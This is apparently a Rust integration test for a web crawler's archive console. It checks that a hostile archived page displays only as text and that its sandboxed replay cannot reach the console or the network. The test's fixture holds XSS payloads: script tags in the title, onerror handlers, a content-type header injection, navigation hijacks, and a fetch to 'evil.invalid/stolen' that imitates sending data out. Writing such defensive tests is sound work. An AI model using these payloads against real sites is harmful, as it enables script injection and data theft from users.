//! An archived page that tries to leave: its title stays text, its replay reaches neither the console nor the network;
//! and the console of a directory in which no crawl runs.

use std::io::ErrorKind;
use std::net::TcpListener;

use super::{Open, chromium, click, replay};
use crate::site::{Crawl, RUSH};
use crate::warc::server::{Answer, serve};

const EVIL: &str = "<!doctype html><title><script>document.body.dataset.ran = 1</script> &amp; a title</title>\
    <body><h1>Evil</h1><script>document.body.dataset.ran = 1; fetch('http://evil.invalid/stolen');\
    parent.document.title = 'owned'; top.location = 'http://evil.invalid/gone'</script>\
    <img src='http://evil.invalid/p.png' onerror='document.body.dataset.ran = 1'>\
    <meta http-equiv='refresh' content='0; url=http://evil.invalid/refresh'>\
    <iframe src='http://evil.invalid/frame'></iframe><link rel=stylesheet href='http://evil.invalid/s.css'>\
    <style>body { background: url(http://evil.invalid/b.png) }</style><a href='/other' autofocus>link</a>";

#[test]
fn a_hostile_page_stays_text_and_its_replay_reaches_neither_the_console_nor_the_network() {
    let Some(mut browser) = chromium::start() else { return };
    // whoever is connected to hears of it
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    listener.set_nonblocking(true).unwrap();
    let there = format!("https://{}/", listener.local_addr().unwrap());
    let connecting = format!(
        "{EVIL}<iframe src='{there}'></iframe><object data='{there}'></object><embed src='{there}'>\
         <link rel=preconnect href='{there}'><noscript><iframe src='{there}'></iframe></noscript>"
    );
    let evil = || Answer::html(connecting.as_str());
    let typed = Answer { content_type: "text/html; x=<img/src=x/onerror=alert(1)>", ..Answer::html("typed") };
    let answers = vec![("/evil?q=<script>alert(1)</script>".to_owned(), evil()), ("/typed".to_owned(), typed)];
    let escaped = ("/evil?q=%3Cscript%3Ealert(1)%3C/script%3E".to_owned(), evil());
    let port = serve(answers.into_iter().chain([escaped]).collect());
    let scope = "[scope]\nmode = \"host\"\nrequisites = \"scope\"\nexclude = [\"^https:\"]\n\
                 [network]\nallow = [\"127.0.0.0/8\"]\n";
    let crawl = Crawl::new(&format!("http://127.0.0.1:{port}/"), &format!("[politeness]\n{RUSH}{scope}"));
    crawl.run(&[]).expect(0, &[]);
    let evil = crawl.stored().into_keys().find(|url| url.contains("/evil")).unwrap();

    let heard = || listener.accept().map(drop).map_err(|error| error.kind());
    assert_eq!(heard(), Err(ErrorKind::WouldBlock), "the crawl has connected");
    let console = Open::directory(&crawl);
    browser.open(&console.url);
    browser.until("document.getElementById('phase').innerText === 'Not running'");
    assert_eq!(browser.value("document.getElementById('controls').checkVisibility()"), false);
    browser.until("document.getElementById('figure-pages').value > 2");
    browser.value("document.getElementById('ask-url').focus()");
    browser.write(&evil);
    browser.press("Enter");
    browser.until("document.querySelector('.versions button[aria-pressed=true]') && document.querySelector('iframe')");
    assert_eq!(browser.text("document.getElementById('explained').innerText"), evil);
    assert!(browser.text("document.querySelector('.verdict').innerText").to_lowercase().contains("fetched"));
    let sandbox = browser.text("document.querySelector('iframe').getAttribute('sandbox')");
    assert!(!sandbox.contains("top-navigation") && !sandbox.contains("popups"), "{sandbox}");

    // its scripts run, and where it sends itself is a page of the archive, too
    replay::until(&mut browser, "location.host.startsWith('evil.invalid.http.')");
    for tab in ["requests", "seeds", "hosts", "tree", "explain"] {
        click(&mut browser, &format!("tab-{tab}"));
        browser.until(&format!("document.querySelector('#panel-{tab} :is(td, [role=treeitem], .verdict, .note)')"));
        let foreign =
            "document.querySelectorAll('main script, main img, main [onerror], iframe:not([sandbox])').length";
        assert_eq!(browser.value(foreign), 0, "{tab}");
    }
    assert!(browser.text("document.title").contains("crawler"));
    assert_eq!(browser.text("location.origin"), console.origin());
    let replay = browser.text("new URL(document.querySelector('iframe').src).origin");
    browser.assert_alone(&[&console.origin(), &replay]);
    let has_tried = |url: &str| url.starts_with("http://evil.invalid.http.") && url.ends_with("/stolen");
    assert!(browser.messages.requests.iter().any(|(_, url)| has_tried(url)), "{:#?}", browser.messages.requests);
    assert_eq!(heard(), Err(ErrorKind::WouldBlock), "the replay has connected to where the page wants");
}
